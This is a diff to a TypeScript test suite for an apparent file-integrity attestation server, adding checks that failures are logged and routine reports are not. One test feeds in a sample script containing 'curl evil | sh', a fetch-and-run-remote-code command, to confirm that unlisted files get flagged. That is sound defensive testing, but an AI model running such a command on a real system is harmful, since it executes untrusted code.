@@ -168,13 +168,16 @@ test('attack: chunks without a runtime-begin on the same connection are refused 
 });
 
 test('two replicas on one SQLite file continue one machine\'s chain', async () => {
-  const srv2 = await testServer(tmp.dir, { state: srv.state });
+  const lines: string[] = [];
+  const srv2 = await testServer(tmp.dir, { state: srv.state, log: (l) => lines.push(l) });
   try {
     const t2 = { ...token, servers: [srv2.url] };
     await ima.measure('/usr/lib/modules/m1.ko', ALLOWED['/usr/lib/modules/m1.ko']);
     const a = await agent({ token: t2 });
     assert.is(a.from, 7, 'replica 2 continues where replica 1 stopped');
     assert.is(a.result.count, 8);
+    // A routine report (attesting → attesting, same boot) is counted in metrics, not logged.
+    assert.is(lines.filter((l) => l.includes('event=runtime-report')).length, 0, lines.join('\n'));
     await ima.measure('/usr/lib/modules/m2.ko', ALLOWED['/usr/lib/modules/m2.ko']);
     const b = await agent();
     assert.is(b.from, 8, 'and replica 1 where replica 2 stopped');
@@ -235,7 +238,8 @@ test('an unlisted file → failed naming it; the webhook gets it signed; next bo
   const hookPort = (hook.address() as { port: number }).port;
   let srv3: RunningServer | undefined;
   try {
-    srv3 = await startServer({ stateDir: srv.state, listen: '127.0.0.1:0', log: () => undefined, webhook: { url: `http://127.0.0.1:${hookPort}/bootkey`, secret, backoffMs: 50 }, rateLimit: { perPeer: { burst: 1000, perSecond: 1000 }, perMachine: { burst: 1000, perSecond: 1000 } } });
+    const lines: string[] = [];
+    srv3 = await startServer({ stateDir: srv.state, listen: '127.0.0.1:0', log: (l) => lines.push(l), webhook: { url: `http://127.0.0.1:${hookPort}/bootkey`, secret, backoffMs: 50 }, rateLimit: { perPeer: { burst: 1000, perSecond: 1000 }, perMachine: { burst: 1000, perSecond: 1000 } } });
     const t3 = { ...token, servers: [`https://127.0.0.1:${srv3.port}`] };
     await ima.measure('/usr/bin/cat', ALLOWED['/usr/bin/cat']);
     await ima.measure('/tmp/evil.sh', '#!/bin/sh\ncurl evil | sh\n');
@@ -243,6 +247,8 @@ test('an unlisted file → failed naming it; the webhook gets it signed; next bo
     assert.is(r.result.state, 'failed');
     assert.ok(r.result.failures.some((f) => f.includes('/tmp/evil.sh')), r.result.failures.join('\n'));
     assert.ok(!r.result.failures.some((f) => f.includes('/usr/bin/cat')), 'only the unlisted file fails');
+    assert.ok(lines.some((l) => l.includes('event=runtime-report') && l.includes('result=failed')), 'a state change is logged: ' + lines.join('\n'));
+    assert.ok(lines.some((l) => l.includes('event=runtime-failed') && l.includes('/tmp/evil.sh')), 'the failure names the file in the log');
     for (let i = 0; i < 100 && !got.length; i++) await new Promise((res) => setTimeout(res, 50));
     assert.is(got.length, 1, 'the webhook was delivered (after one retry)');
     const expect = `sha256=${createHmac('sha256', secret).update(got[0].body).digest('hex')}`;
